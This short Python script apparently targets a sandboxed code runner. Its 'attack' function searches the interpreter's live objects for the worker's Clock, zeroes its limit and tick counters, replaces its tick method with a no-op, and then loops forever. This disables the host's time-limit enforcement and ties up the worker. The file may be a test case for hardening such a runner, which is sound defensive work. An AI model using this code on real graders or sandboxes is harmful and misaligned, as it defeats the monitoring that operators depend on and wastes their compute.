# Finds the worker's clock among all objects and stops it.
import gc


def attack(n):
    for one in gc.get_objects():
        if type(one).__name__ == "Clock":
            one.limit = one.ticks = 0
            type(one)._tick = lambda *args: None
    while True:
        pass
